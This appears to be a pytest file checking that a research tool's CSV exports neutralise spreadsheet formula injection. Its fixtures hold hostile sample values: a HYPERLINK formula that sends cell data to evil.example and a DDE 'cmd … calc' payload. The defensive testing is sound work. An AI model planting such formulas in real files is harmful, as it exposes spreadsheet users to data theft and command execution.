"""The agreement report and the adjudication log as CSV: spreadsheet-safe like the export,
unless --no-spreadsheet-safe asks for the values exactly as stored."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from framedesk.cli import main
from framedesk.core.review.log import export_log
from framedesk.core.store import Project
from tests.core.test_review import make_coder_file

EVIL_CODER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
TEXTS = [f"{EVIL_TITLE} {i}\n\nKyiv said the talks in Geneva failed, officials said on day {i}."
         for i in range(6)]
ANA_FRAMES = ["security", "economic", "security", "political", "morality", "health"]
BEN_FRAMES = ["security", "security", "security", "political", "economic", "health"]


@pytest.fixture
def files(tmp_path: Path) -> list[Path]:
    ana, ben = tmp_path / "ana.framedesk", tmp_path / "ben.framedesk"
    make_coder_file(ana, EVIL_CODER, ANA_FRAMES, ["neutral"] * 6, texts=TEXTS)
    make_coder_file(ben, "-Ben", BEN_FRAMES, ["neutral"] * 5 + ["implicit_pro"], texts=TEXTS)
    return [ana, ben]


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def confusion_coders(rows: list[dict[str, str]]) -> set[tuple[str, str]]:
    return {(r["coder_a"], r["coder_b"]) for r in rows if r["section"] == "confusion"}


def test_agreement_csv_quotes_formula_names_unless_asked_not_to(files, tmp_path, capsys) -> None:
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert main(["agree", *map(str, files), "--csv", str(safe)]) == 0
    assert main(["agree", *map(str, files), "--csv", str(raw), "--no-spreadsheet-safe"]) == 0
    capsys.readouterr()
    assert confusion_coders(read_rows(safe)) == {("'" + EVIL_CODER, "'-Ben")}
    assert confusion_coders(read_rows(raw)) == {(EVIL_CODER, "-Ben")}
    # Figures stay numbers: a spreadsheet must still be able to sum and sort them.
    frame = next(r for r in read_rows(safe)
                 if r["section"] == "variable" and r["variable"] == "primary frame")
    assert not frame["kappa"].startswith("'") and float(frame["kappa"]) < 1


def test_merge_log_csv_quotes_titles_and_coders_unless_asked_not_to(files, tmp_path,
                                                                     capsys) -> None:
    safe_log, raw_log = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert main(["merge", *map(str, files), "--out", str(tmp_path / "g1.framedesk"),
                 "--log", str(safe_log)]) == 0
    assert main(["merge", *map(str, files), "--out", str(tmp_path / "g2.framedesk"),
                 "--log", str(raw_log), "--no-spreadsheet-safe"]) == 0
    capsys.readouterr()
    safe, raw = read_rows(safe_log), read_rows(raw_log)
    assert len(safe) == len(raw) == 5
    assert {r["article_title"][:len(EVIL_TITLE) + 1] for r in safe} == {"'" + EVIL_TITLE}
    assert {r["article_title"][:len(EVIL_TITLE)] for r in raw} == {EVIL_TITLE}
    # Removing one leading quote gives back the stored value (the export's rule).
    assert [r["article_title"][1:] for r in safe] == [r["article_title"] for r in raw]


def test_log_note_written_by_an_adjudicator_is_quoted(files, tmp_path, capsys) -> None:
    gold = tmp_path / "gold.framedesk"
    assert main(["merge", *map(str, files), "--out", str(gold)]) == 0
    capsys.readouterr()
    with Project.open(gold) as g, g.atomic() as db:
        db.execute("UPDATE adjudications SET note = ?", ["+1 see =A1"])
    with Project.open(gold, read_only=True) as g:
        export_log(g, tmp_path / "log.csv")
        export_log(g, tmp_path / "raw.csv", spreadsheet_safe=False)
        export_log(g, tmp_path / "log.jsonl")
    assert {r["note"] for r in read_rows(tmp_path / "log.csv")} == {"'+1 see =A1"}
    assert {r["note"] for r in read_rows(tmp_path / "raw.csv")} == {"+1 see =A1"}
    assert '"note": "+1 see =A1"' in (tmp_path / "log.jsonl").read_text("utf-8")
